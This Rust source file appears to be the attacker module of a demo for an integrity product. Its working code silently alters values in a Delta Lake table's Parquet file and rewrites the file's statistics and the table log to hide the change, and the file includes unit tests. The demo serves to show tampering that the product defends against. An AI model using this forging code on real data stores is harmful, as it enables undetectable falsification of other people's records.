//! The attacker of the demo: holds stolen writer credentials, and nothing of Lakeseal's but the store they open.
//!
//! A few values of one column in one row group are replaced, the file is encoded anew with statistics that fit, and the table's log is
//! made to agree: for any reader of Parquet and Delta the result is a flawless table.

use std::sync::Arc;

use arrow::array::{Array, ArrayRef, AsArray, Int64Array, RecordBatch, StringArray};
use arrow::compute::{cast, max, min};
use arrow::datatypes::{DataType, Int64Type};
use bytes::Bytes;
use futures::TryStreamExt;
use object_store::path::Path;
use object_store::{ObjectStore, ObjectStoreExt, PutPayload};
use parquet::arrow::ArrowWriter;
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use parquet::file::metadata::ParquetMetaData;
use parquet::file::properties::WriterProperties;
use serde_json::Value;

use crate::error::{Error, ErrorKind, Result};

/// What to falsify.
#[derive(Debug, Clone, Copy)]
pub struct Plan<'a> {
    /// The column of whole numbers to edit.
    pub column: &'a str,
    /// The text column that picks the rows …
    pub key_column: &'a str,
    /// … by this value.
    pub key: &'a str,
    /// How many rows to edit.
    pub values: usize,
    /// What is added to each edited value.
    pub add: i64,
}

/// What was falsified.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Poisoned {
    /// The data file, relative to the table.
    pub file: String,
    /// The row group.
    pub row_group: usize,
    /// Row groups of the file.
    pub row_groups: usize,
    /// Rows of the file.
    pub rows: i64,
    /// Values replaced.
    pub values: usize,
    /// The file's size before and after, in bytes.
    pub bytes: (usize, usize),
}

/// Poisons the largest data file of the Delta table at `table`, in the middle row group.
///
/// # Errors
/// [`ErrorKind::InvalidInput`] when the table is not of the shape that the plan needs; whatever the store fails with.
pub async fn poison(store: &dyn ObjectStore, table: &Path, plan: Plan<'_>) -> Result<Poisoned> {
    let (commit, mut lines, at) = largest_add(store, table).await?;
    let add = lines.get_mut(at).and_then(|line| line.get_mut("add")).ok_or_else(|| unfit("the commit has no data file"))?;
    let file = add.get("path").and_then(Value::as_str).ok_or_else(|| unfit("a data file has no path"))?.to_owned();
    let location = Path::parse(format!("{table}/{file}")).map_err(|e| unfit("the file's path is none").caused_by(e))?;
    let honest = store.get(&location).await?.bytes().await?;

    let forged = forge(honest.clone(), plan)?;
    restate(add, plan.column, &forged)?;
    let log: String = lines.iter().map(|line| format!("{line}\n")).collect();
    let size = forged.bytes.len();
    store.put(&location, PutPayload::from(forged.bytes)).await?;
    store.put(&commit, PutPayload::from(log)).await?;
    Ok(Poisoned {
        file,
        row_group: forged.row_group,
        row_groups: forged.row_groups,
        rows: forged.rows,
        values: plan.values,
        bytes: (honest.len(), size),
    })
}

fn unfit(why: &str) -> Error {
    Error::new(ErrorKind::InvalidInput, format!("the demo's attack does not fit this table: {why}"))
}

/// The commit that added the largest data file, its lines, and which of them it is.
async fn largest_add(store: &dyn ObjectStore, table: &Path) -> Result<(Path, Vec<Value>, usize)> {
    let listed: Vec<_> = store.list(Some(&table.clone().join("_delta_log"))).try_collect().await?;
    let mut best: Option<(i64, Path, Vec<Value>, usize)> = None;
    for object in listed.into_iter().filter(|object| object.location.as_ref().ends_with(".json")) {
        let text = store.get(&object.location).await?.bytes().await?;
        let lines = serde_json::Deserializer::from_slice(&text)
            .into_iter::<Value>()
            .collect::<std::result::Result<Vec<_>, _>>()
            .map_err(|e| unfit("the log is not JSON").caused_by(e))?;
        for (at, line) in lines.iter().enumerate() {
            let size = line.pointer("/add/size").and_then(Value::as_i64).unwrap_or(-1);
            if size >= 0 && best.as_ref().is_none_or(|(largest, ..)| size > *largest) {
                best = Some((size, object.location.clone(), lines.clone(), at));
            }
        }
    }
    best.map(|(_, commit, lines, at)| (commit, lines, at)).ok_or_else(|| unfit("it has no data file"))
}

/// A forged file and what the log has to say about it.
struct Forged {
    bytes: Bytes,
    row_group: usize,
    row_groups: usize,
    rows: i64,
    range: Option<(i64, i64)>,
}

fn forge(honest: Bytes, plan: Plan<'_>) -> Result<Forged> {
    let failed = |e: parquet::errors::ParquetError| unfit("a data file could not be encoded anew").caused_by(e);
    let builder = ParquetRecordBatchReaderBuilder::try_new(honest.clone()).map_err(failed)?;
    let (metadata, schema) = (builder.metadata().clone(), builder.schema().clone());
    let row_groups = metadata.num_row_groups();
    let target = row_groups / 2;
    let mut writer = ArrowWriter::try_new(Vec::new(), schema, Some(same_properties(&metadata))).map_err(failed)?;
    let (mut left, mut lowest, mut highest) = (plan.values, None, None);
    for row_group in 0..row_groups {
        let builder = ParquetRecordBatchReaderBuilder::try_new(honest.clone()).map_err(failed)?;
        let batches = builder.with_row_groups(vec![row_group]).build().map_err(failed)?;
        for batch in batches {
            let mut batch = batch.map_err(|e| unfit("a data file could not be decoded").caused_by(e))?;
            if row_group == target && left > 0 {
                batch = falsify(&batch, plan, &mut left)?;
            }
            if let Some(values) = batch.column_by_name(plan.column).and_then(|column| column.as_primitive_opt::<Int64Type>()) {
                lowest = min(values).into_iter().chain(lowest).min();
                highest = max(values).into_iter().chain(highest).max();
            }
            writer.write(&batch).map_err(failed)?;
        }
        writer.flush().map_err(failed)?;
    }
    if left > 0 {
        return Err(unfit("the row group has too few rows of that key"));
    }
    let bytes = writer.into_inner().map_err(failed)?;
    let rows = metadata.file_metadata().num_rows();
    Ok(Forged { bytes: bytes.into(), row_group: target, row_groups, rows, range: lowest.zip(highest) })
}

/// The writer's settings as the honest file shows them, so that nothing else about the file looks different.
fn same_properties(metadata: &ParquetMetaData) -> WriterProperties {
    let file = metadata.file_metadata();
    let mut properties = WriterProperties::builder().set_max_row_group_row_count(None);
    if let Some(created_by) = file.created_by() {
        properties = properties.set_created_by(created_by.to_owned());
    }
    if let Some(compression) = metadata.row_groups().first().and_then(|g| g.columns().first()).map(|c| c.compression()) {
        properties = properties.set_compression(compression);
    }
    properties.build()
}

/// Adds to the first `left` values of the key's rows in the batch.
fn falsify(batch: &RecordBatch, plan: Plan<'_>, left: &mut usize) -> Result<RecordBatch> {
    let index = batch.schema().index_of(plan.column).map_err(|e| unfit("it has no such column").caused_by(e))?;
    let values = batch
        .columns()
        .get(index)
        .and_then(|column| column.as_primitive_opt::<Int64Type>())
        .ok_or_else(|| unfit("the column is not of whole numbers"))?;
    let keys = batch.column_by_name(plan.key_column).ok_or_else(|| unfit("it has no such key column"))?;
    let keys = cast(keys, &DataType::Utf8).map_err(|e| unfit("the key column is not text").caused_by(e))?;
    let keys: &StringArray = keys.as_string();
    let edited: Int64Array = values
        .iter()
        .zip(keys.iter())
        .map(|(value, key)| match value {
            Some(value) if *left > 0 && key == Some(plan.key) => {
                *left -= 1;
                Some(value.saturating_add(plan.add))
            }
            value => value,
        })
        .collect();
    let mut columns: Vec<ArrayRef> = batch.columns().to_vec();
    if let Some(column) = columns.get_mut(index) {
        debug_assert_eq!(column.len(), edited.len());
        *column = Arc::new(edited);
    }
    RecordBatch::try_new(batch.schema(), columns).map_err(|e| unfit("the edited rows do not fit").caused_by(e))
}

/// Makes the log's entry agree with the forged file: its size, and the column's range.
fn restate(add: &mut Value, column: &str, forged: &Forged) -> Result<()> {
    let entry = add.as_object_mut().ok_or_else(|| unfit("a data file's entry is no object"))?;
    entry.insert("size".to_owned(), Value::from(forged.bytes.len()));
    let Some(text) = entry.get("stats").and_then(Value::as_str) else { return Ok(()) };
    let mut stats: Value = serde_json::from_str(text).map_err(|e| unfit("the statistics are not JSON").caused_by(e))?;
    if let Some((lowest, highest)) = forged.range {
        for (which, value) in [("minValues", lowest), ("maxValues", highest)] {
            if let Some(stated) = stats.get_mut(which).and_then(|values| values.get_mut(column)) {
                *stated = Value::from(value);
            }
        }
    }
    entry.insert("stats".to_owned(), Value::from(stats.to_string()));
    Ok(())
}

#[cfg(test)]
mod tests {
    use arrow::datatypes::{Field, Schema};
    use object_store::memory::InMemory;

    use super::*;

    const PLAN: Plan<'static> = Plan { column: "delay", key_column: "origin", key: "CLE", values: 3, add: 700 };

    fn file(groups: i64) -> Bytes {
        let schema = Arc::new(Schema::new(vec![Field::new("delay", DataType::Int64, true), Field::new("origin", DataType::Utf8, true)]));
        let mut writer = ArrowWriter::try_new(Vec::new(), schema.clone(), None).unwrap();
        for group in 0..groups {
            let delays = Int64Array::from_iter_values(group * 10..group * 10 + 10);
            let origins = StringArray::from_iter_values((0..10).map(|i| if i % 2 == 0 { "CLE" } else { "JFK" }));
            writer.write(&RecordBatch::try_new(schema.clone(), vec![Arc::new(delays), Arc::new(origins)]).unwrap()).unwrap();
            writer.flush().unwrap();
        }
        writer.into_inner().unwrap().into()
    }

    fn delays(bytes: Bytes) -> Vec<i64> {
        let reader = ParquetRecordBatchReaderBuilder::try_new(bytes).unwrap().build().unwrap();
        reader.flat_map(|batch| batch.unwrap().column(0).as_primitive::<Int64Type>().values().to_vec()).collect()
    }

    #[tokio::test]
    async fn only_the_planned_values_change_and_the_log_agrees() {
        let store = InMemory::new();
        let table = Path::from("t");
        let honest = file(3);
        let log = format!(
            "{{\"protocol\":{{}}}}\n{{\"add\":{{\"path\":\"a.parquet\",\"size\":{},\"stats\":\"{{\\\"numRecords\\\":30,\\\"minValues\\\":\
             {{\\\"delay\\\":0}},\\\"maxValues\\\":{{\\\"delay\\\":29}}}}\"}}}}\n",
            honest.len()
        );
        let commit = Path::from("t/_delta_log/00000000000000000000.json");
        store.put(&Path::from("t/a.parquet"), honest.clone().into()).await.unwrap();
        store.put(&commit, log.into()).await.unwrap();

        let poisoned = poison(&store, &table, PLAN).await.unwrap();
        assert_eq!((poisoned.row_group, poisoned.row_groups, poisoned.values), (1, 3, 3));
        let forged = store.get(&Path::from("t/a.parquet")).await.unwrap().bytes().await.unwrap();
        let changed: Vec<_> = delays(honest).into_iter().zip(delays(forged.clone())).filter(|(a, b)| a != b).collect();
        assert_eq!(changed, [(10, 710), (12, 712), (14, 714)]);
        let log = store.get(&commit).await.unwrap().bytes().await.unwrap();
        let add: Value = serde_json::from_str(std::str::from_utf8(&log).unwrap().lines().nth(1).unwrap()).unwrap();
        assert_eq!(add["add"]["size"], forged.len());
        let stats: Value = serde_json::from_str(add["add"]["stats"].as_str().unwrap()).unwrap();
        assert_eq!((&stats["maxValues"]["delay"], &stats["numRecords"]), (&Value::from(714), &Value::from(30)));
    }

    #[test]
    fn a_plan_that_finds_too_few_rows_says_so() {
        assert!(forge(file(1), Plan { values: 6, ..PLAN }).is_err_and(|e| e.kind() == ErrorKind::InvalidInput));
    }
}
